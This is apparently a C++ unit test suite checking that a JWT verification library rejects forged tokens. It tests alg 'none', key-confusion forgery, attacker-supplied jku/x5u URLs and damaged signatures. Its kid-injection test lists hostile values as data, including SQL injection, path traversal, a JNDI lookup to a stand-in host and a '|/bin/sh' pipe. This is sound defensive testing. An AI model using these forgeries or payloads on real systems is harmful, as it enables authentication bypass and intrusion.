#include "test_attacks.hpp"

using namespace api_token;

namespace {

/// RFC 8725 §2.1: no algorithm, in each spelling, with and without a signature of something.
void test_alg_none(void**)
{
    const std::string claims = encode(account_claims().text());
    const std::pair<const char*, const char*> headers[] = {
        {R"({"alg":"none"})", "key"},
        {R"({"alg":"None"})", "key"},
        {R"({"alg":"nOnE","typ":"JWT"})", "key"},
        {R"({"alg":"NONE"})", "key"},
        {R"({"alg":""})", "key"},
        {R"({"alg":"RS256 "})", "key"},
        {R"({"alg":"rs256"})", "key"},
        {R"({"alg":"none","kid":"secret"})", "key"},
        {R"({"typ":"JWT"})", "malformed"},
        {R"({})", "malformed"},
        {R"({"alg":["RS256"]})", "malformed"},
        {R"({"alg":{"a":"RS256"}})", "malformed"},
        {R"({"alg":null})", "malformed"},
        {R"({"alg":0})", "malformed"},
        {R"({"alg":true})", "malformed"},
        {R"({"ALG":"RS256"})", "malformed"},
        {R"({"alg":"RS256\u0000"})", "key"},
    };
    for (const auto& [header, verdict] : headers) {
        attack(encode(header) + '.' + claims + '.', verdict);
        attack(encode(header) + '.' + claims + '.' + part(server().valid_rsa, 2), verdict);
        attack(forge(server().rsa, header, account_claims().text()), verdict);
    }
}

/// RFC 8725 §2.1: the public key as the secret of an HMAC.
void test_public_key_as_secret(void**)
{
    const std::string pem_text = pem("rsa_public");
    const std::string body =
        pem_text.substr(pem_text.find('\n'), pem_text.rfind("\n-----END") - pem_text.find('\n'));
    std::string der_text;
    for (const char character : body) {
        if (character != '\n' && character != '=') {
            der_text += character == '+' ? '-' : character == '/' ? '_' : character;
        }
    }
    const std::string secrets[] = {pem_text, pem_text.substr(0, pem_text.size() - 1), decode(der_text),
                                   decode(Jwk("rsa").member("n")), Jwk("rsa").make_public().text()};
    for (const std::string& secret : secrets) {
        for (const char* algorithm : {"HS256", "HS384", "HS512"}) {
            const Key thief =
                load_one(Jwk("hs256").with_text("alg", algorithm).with_text("k", encode(secret)).text());
            const std::string token = make_jwt(thief, account_claims().text());
            assert_text(check(token, {&server().rsa}), "key");
            assert_text(check(token, {&server().rsa, &server().ec, &server().edwards}), "key");
            assert_text(check(token, {&thief}), "passes");
            attack(token, algorithm == std::string_view("HS256") ? "signature" : "key");
        }
    }
}

/// One key, one algorithm: another of the same type does not pass.
void test_algorithm_of_the_same_type(void**)
{
    for (const char* algorithm : {"RS384", "RS512", "PS256", "PS384", "PS512"}) {
        const Key same = load_one(Jwk("rsa").with_text("alg", algorithm).text());
        attack(make_jwt(same, account_claims().text()), "key");
        const std::string input = part(server().valid_rsa, 0) + '.' + part(server().valid_rsa, 1);
        attack(input + '.' + encode(sign(same, input)), "signature");
    }
}

void test_damaged_signatures(void**)
{
    const std::string token = server().valid_rsa;
    const std::string input = part(token, 0) + '.' + part(token, 1) + '.';
    const std::string signature = decode(part(token, 2));
    attack(input, "signature");
    for (const std::size_t length : {1u, 32u, 64u, 255u}) {
        attack(input + encode(signature.substr(0, length)), "signature");
    }
    attack(input + encode(signature + '\0'), "signature");
    attack(input + encode('\0' + signature), "signature");
    attack(input + encode(std::string(256, '\0')), "signature");
    attack(input + part(server().valid_ec, 2), "signature");
    for (std::size_t i = 0; i < signature.size(); i += 15) {
        std::string flipped = signature;
        flipped[i] = static_cast<char>(flipped[i] ^ 0x10);
        attack(input + encode(flipped), "signature");
    }
    attack(make_jwt(load_one(Jwk("rsa_other").text()), account_claims().text()), "signature");
    attack(part(server().valid_rsa, 0) + '.' + encode(environment_claims().text()) + '.' + part(token, 2),
           "signature");
    attack(part(server().valid_ec, 0) + '.' + part(server().valid_ec, 1) + '.' +
               encode(std::string(64, '\0')),
           "signature");
}

/// Each flipped bit of a small token makes it another's.
void test_each_flipped_character(void**)
{
    const std::string& token = server().valid_secret;
    for (std::size_t i = 0; i < token.size(); ++i) {
        std::string flipped = token;
        flipped[i] = flipped[i] == 'A' ? 'B' : 'A';
        assert_row(server().check(flipped) != "passes", flipped);
    }
    assert_unharmed("flipped characters");
}

/// Headers that ask for something, or bring a key along: RFC 7515 §4.1.
void test_headers(void**)
{
    const std::string own_key = Jwk("rsa_other").make_public().text();
    const Key thief = load_one(Jwk("rsa_other").text());
    const std::string bringing[] = {
        R"({"alg":"RS256","jwk":)" + own_key + "}",
        R"({"alg":"RS256","jku":"https://thief.example/jwks.json"})",
        R"({"alg":"RS256","x5u":"https://thief.example/cert.pem"})",
        R"({"alg":"RS256","x5c":["MIIB"],"x5t":"x","x5t#S256":"y"})",
    };
    for (const std::string& header : bringing) {
        attack(forge(thief, header, account_claims().text()), "signature");
        assert_text(server().check(rsa_with_header(header)), "passes");
    }
    const char* refused[] = {
        R"({"alg":"RS256","crit":["exp"]})",
        R"({"alg":"RS256","crit":[]})",
        R"({"alg":"RS256","crit":null})",
        R"({"alg":"RS256","crit":"x"})",
        R"({"alg":"RS256","crit":["b64"],"b64":false})",
        R"({"alg":"RS256","b64":true})",
        R"({"alg":"RS256","b64":false})",
        R"({"alg":"RS256","b64":null})",
    };
    for (const char* header : refused) {
        attack(rsa_with_header(header), "malformed");
    }
    const std::string unencoded = encode(R"({"alg":"RS256","b64":false})") + '.' + account_claims().text();
    attack(unencoded + '.' + encode(sign(server().rsa, unencoded)), "malformed");
}

/// RFC 8725 §2.9: a kid is compared, and nothing else is done with it.
void test_kid_injection(void**)
{
    const char* unknown[] = {R"("../../../../dev/null")",
                             R"("/dev/null")",
                             R"("x' UNION SELECT 'secret';--")",
                             R"("secret' OR '1'='1")",
                             R"("SECRET")",
                             R"("secret ")",
                             R"("secre")",
                             R"("secrett")",
                             R"("")",
                             R"("ec")",
                             R"("*")",
                             R"("${jndi:ldap://thief.example}")",
                             R"("%s%s%n")",
                             R"("|/bin/sh")",
                             R"("\r\nX: y")",
                             R"("secret\u0000")",
                             R"("\u0000")"};
    for (const char* kid : unknown) {
        const std::string header = std::string(R"({"alg":"HS256","kid":)") + kid + "}";
        attack(forge(server().secret, header, account_claims().text()), "key");
    }
    for (const char* kid : {"0", "1", "null", "true", "[\"secret\"]", "{\"a\":\"secret\"}"}) {
        const std::string header = std::string(R"({"alg":"HS256","kid":)") + kid + "}";
        attack(forge(server().secret, header, account_claims().text()), "malformed");
    }
    const std::string huge = R"({"alg":"HS256","kid":")" + std::string(4000, 'k') + "\"}";
    attack(forge(server().secret, huge, account_claims().text()), "key");
}

void test_parts(void**)
{
    const std::string& token = server().valid_rsa;
    const std::string header = part(token, 0);
    const std::string claims = part(token, 1);
    const std::string signature = part(token, 2);
    const std::string bad[] = {
        "",
        ".",
        "..",
        "...",
        "x",
        header,
        header + '.' + claims,
        '.' + claims + '.' + signature,
        header + ".." + signature,
        '.' + token,
        token + '.',
        token + '.' + signature,
        token + '.' + claims + '.' + signature,
        header + ".." + claims + '.' + signature,
        header + "." + claims + ".." + signature,
        header + "~" + claims + "~" + signature,
        token + std::string(1, '\0'),
        std::string(1, '\0') + token,
        std::string(8192, '.'),
        std::string(8193, 'A'),
        std::string(100000, 'A') + '.' + claims + '.' + signature,
    };
    for (const std::string& text : bad) {
        attack(text, "malformed");
    }
    attack(sign_text(server().rsa, header, ""), "malformed");
    attack(sign_text(server().rsa, "", claims), "malformed");
    attack(R"({"payload":"e30","protected":"e30","signature":""})", "malformed");
}

/// Claims whose base64url leaves unused bits.
std::string claims_of_rest(std::size_t rest)
{
    std::string claims = account_claims().text();
    while (claims.size() % 3 != rest) {
        claims += ' ';
    }
    return claims;
}

std::string set_unused_bit(const std::string& text)
{
    constexpr std::string_view alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    std::string changed = text;
    changed.back() = alphabet[alphabet.find(text.back()) ^ 1];
    return changed;
}

void test_unused_bits(void**)
{
    for (const std::size_t rest : {1u, 2u}) {
        const std::string claims = encode(claims_of_rest(rest));
        std::string header_json(R"({"alg":"RS256"})");
        header_json.append((3 + rest - header_json.size() % 3) % 3, ' ');
        const std::string header = encode(header_json);
        assert_text(server().check(sign_text(server().rsa, header, claims)), "passes");
        attack(sign_text(server().rsa, header, set_unused_bit(claims)), "malformed");
        attack(sign_text(server().rsa, set_unused_bit(header), claims), "malformed");
    }
    attack(set_unused_bit(server().valid_rsa), "malformed");
    attack(set_unused_bit(server().valid_ec), "malformed");
    attack(set_unused_bit(server().valid_secret), "malformed");
}

void test_foreign_characters(void**)
{
    const std::string header = part(server().valid_rsa, 0);
    const std::string claims = encode(account_claims().with("x", R"("~~~???>>>")").text());
    assert_true(claims.find_first_of("-_") != std::string::npos);
    std::string standard = claims;
    for (char& character : standard) {
        character = character == '-' ? '+' : character == '_' ? '/' : character;
    }
    attack(sign_text(server().rsa, header, standard), "malformed");
    const std::string additions[] = {
        "=", "==", " ", "\n", "\r\n", "\t", "+", "/", "%3D", "\xc2\xa0", std::string(1, '\0')};
    for (const std::string& addition : additions) {
        attack(sign_text(server().rsa, header + addition, claims), "malformed");
        attack(sign_text(server().rsa, addition + header, claims), "malformed");
        attack(sign_text(server().rsa, header, claims + addition), "malformed");
        attack(sign_text(server().rsa, header, claims.substr(0, 8) + addition + claims.substr(8)),
               "malformed");
        attack(server().valid_rsa + addition, "malformed");
        attack(addition + server().valid_rsa, "malformed");
    }
}

/// RFC 8725 §2.3: a JWE (five parts), and a JWS in a JWS.
void test_other_kinds(void**)
{
    attack("eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.AAAA.AAAA.AAAA.AAAA", "malformed");
    attack(rsa_with_claims(server().valid_rsa), "malformed");
    attack(forge(load_one(Jwk("eddsa_other").text()), R"({"alg":"EdDSA"})", account_claims().text()),
           "signature");
}

/// RFC 8725 §2.5 and §2.2 are about keys: key_test. §2.7: a token for others does not pass here.
void test_tokens_for_others(void**)
{
    attack(rsa_with_claims(account_claims().with("aud", "\"billing\"").text()), "audience");
    attack(rsa_with_claims(account_claims().with("iss", "\"https://thief.example\"").text()), "issuer");
    assert_text(server().check(server().valid_admin), "malformed");
    const Key admin = load_one(Jwk("eddsa_other").text());
    assert_text(check_admin(server().valid_rsa, {&admin}), "key");
    assert_text(check(make_jwt(admin, account_claims().text()), {&server().rsa}), "key");
}

/// A random walk through forged and valid ones, on one set of keys.
void test_five_thousand_rounds(void**)
{
    const std::string claims = encode(account_claims().text());
    const std::string forged[] = {
        encode(R"({"alg":"none"})") + '.' + claims + '.',
        encode(R"({"alg":"nOnE"})") + '.' + claims + '.',
        encode(R"({"typ":"JWT"})") + '.' + claims + '.',
        forge(load_one(Jwk("hs256").with_text("k", encode(pem("rsa_public"))).text()), R"({"alg":"HS256"})",
              account_claims().text()),
        server().valid_rsa.substr(0, server().valid_rsa.size() - 40),
        server().valid_ec.substr(0, server().valid_ec.size() - 86),
        make_jwt(load_one(Jwk("rsa_other").text()), account_claims().text()),
        forge(server().secret, R"({"alg":"HS256","crit":["exp"]})", account_claims().text()),
        forge(server().secret, R"({"alg":"HS256","kid":"../x"})", account_claims().text()),
        forge(server().secret, R"({"alg":"RS256"})", account_claims().text()),
    };
    const std::string* valid[] = {&server().valid_rsa, &server().valid_ec, &server().valid_secret};
    std::uint32_t random = 12345;
    for (int round = 0; round < 5000; ++round) {
        random = random * 1664525 + 1013904223;
        const std::string& bad = forged[(random >> 16) % std::size(forged)];
        assert_row(server().check(bad) != "passes", bad);
        assert_row(server().check(*valid[(random >> 24) % 3]) == "passes", bad);
    }
    assert_unharmed("rounds");
}

} // namespace

int main()
{
    const CMUnitTest tests[] = {
        cmocka_unit_test(test_alg_none),
        cmocka_unit_test(test_public_key_as_secret),
        cmocka_unit_test(test_algorithm_of_the_same_type),
        cmocka_unit_test(test_damaged_signatures),
        cmocka_unit_test(test_each_flipped_character),
        cmocka_unit_test(test_headers),
        cmocka_unit_test(test_kid_injection),
        cmocka_unit_test(test_parts),
        cmocka_unit_test(test_unused_bits),
        cmocka_unit_test(test_foreign_characters),
        cmocka_unit_test(test_other_kinds),
        cmocka_unit_test(test_tokens_for_others),
        cmocka_unit_test(test_five_thousand_rounds),
    };
    return cmocka_run_group_tests(tests, nullptr, nullptr);
}
